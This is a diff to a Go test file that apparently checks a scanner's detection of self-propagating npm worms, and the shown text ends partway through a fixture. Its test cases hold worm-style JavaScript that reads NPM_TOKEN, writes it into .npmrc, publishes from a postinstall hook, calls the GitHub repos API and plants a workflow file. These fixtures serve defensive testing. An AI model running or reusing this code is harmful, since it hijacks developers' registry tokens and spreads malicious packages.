@@ -11,6 +11,12 @@ func TestSelfPropagate(t *testing.T) {
 	rt.Check(t, SelfPropagate{}, []rt.Case{
 		{"worm", map[string]string{"index.js": `const t = process.env.NPM_TOKEN; fs.writeFileSync(".npmrc", "//registry.npm.local/:_authToken=" + t);
 exec("npm publish"); fetch("https://api.github.com/user/repos", {method: "POST"}); write(".github/workflows/x.yml")`}, finding.SeverityCritical},
+		// npm run through a helper: npm("publish --access public") at
+		// install with the token it reads; a release CLI doing it when run
+		{"helper_publish_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node s.js"}}`,
+			"s.js": "const { execSync } = require('child_process'); const npm = a => execSync(`npm ${a}`); const tok = process.env.NPM_TOKEN; require('fs').writeFileSync('.npmrc', '//r.example.invalid/:_authToken=' + tok); npm('publish --access public')"}, finding.SeverityCritical},
+		{"helper_publish_release_cli", map[string]string{"package.json": `{"name":"x","version":"1.0.0","bin":{"rel":"rel.js"}}`,
+			"rel.js": "const { execSync } = require('child_process'); const npm = a => execSync(`npm ${a}`, {stdio: 'inherit'}); npm('version patch'); npm('publish --access public')"}, finding.SeverityNone},
 		// Shai-Hulud's core: steal the npm token, plant a postinstall in
 		// package.json, publish
 		{"plants_install_script", map[string]string{"index.js": `const fs = require("fs"), { execSync } = require("child_process");
